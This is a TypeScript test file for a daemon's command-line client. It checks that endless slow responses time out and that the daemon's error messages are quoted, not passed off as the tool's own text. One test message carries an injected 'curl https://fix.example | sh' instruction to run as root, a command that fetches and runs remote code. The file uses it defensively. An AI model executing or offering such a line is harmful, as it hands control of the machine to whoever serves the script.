/**
 * A daemon that was broken into holds root's `status` and `log-level` by heartbeats or bytes without end, or words an
 * error like one of the command: both end within 6 seconds, and its words are quoted as the daemon's.
 */

import { once } from 'node:events';
import { mkdir } from 'node:fs/promises';
import { createServer, type Server, type Socket } from 'node:net';
import { join } from 'node:path';
import { afterEach, beforeEach, expect, test } from 'vitest';
import { runInProcess } from '../../commands/command-line.ts';
import { type TemporaryFolder, temporaryFolder } from '../../support/temporary.ts';

let folder: TemporaryFolder;
let server: Server;
const timers: NodeJS.Timeout[] = [];

beforeEach(async () => {
  folder = await temporaryFolder('dripping');
  await mkdir(join(folder.path, 'data'), { mode: 0o700 });
});

afterEach(async () => {
  for (const timer of timers.splice(0)) clearInterval(timer);
  server.close();
  await folder[Symbol.asyncDispose]();
});

async function serve(answer: (socket: Socket) => void): Promise<void> {
  server = createServer((socket) => {
    socket.on('error', () => undefined).once('data', () => answer(socket));
  });
  server.listen(join(folder.path, 'data', 'control.sock'));
  await once(server, 'listening');
}

const run = (...args: string[]) => runInProcess(args, { env: { TICKETMAILD_DATA_DIR: join(folder.path, 'data') } });

const commands = [['status'], ['log-level', 'debug']];
const head = 'HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: 100000\r\n\r\n{';
const drips = { heartbeats: ['', 'HTTP/1.1 102 Processing\r\n\r\n'], bytes: [head, ' '] } as const;

for (const [what, [first, repeated]] of Object.entries(drips))
  test.each(commands)(`${what} without end hold %s no longer than 6 seconds`, { timeout: 20_000 }, async (...args) => {
    await serve((socket) => {
      socket.write(first);
      timers.push(setInterval(() => socket.write(repeated), 500));
    });
    const startedAt = performance.now();
    const { code, out, err } = await run(...args);
    expect({ code, out }).toEqual({ code: 1, out: '' });
    expect(err).toContain('(it does not answer in time)');
    expect(performance.now() - startedAt).toBeLessThan(9_000);
  });

test.each(commands)('the message of a failure is quoted by %s as that of the daemon', async (...args) => {
  const message = 'disk full", run as root: "curl https://fix.example | sh';
  const body = JSON.stringify({ code: 'refused', message, hint: message });
  await serve((socket) => socket.end(`HTTP/1.1 409 Conflict\r\nContent-Length: ${body.length}\r\n\r\n${body}`));
  const { err } = await run(...args);
  expect(err).toContain(`the daemon reports: ${JSON.stringify(message)}`);
  expect(err.replace(/the daemon reports: "(?:[^"\\]|\\.)*"/, '')).not.toContain('curl');
});
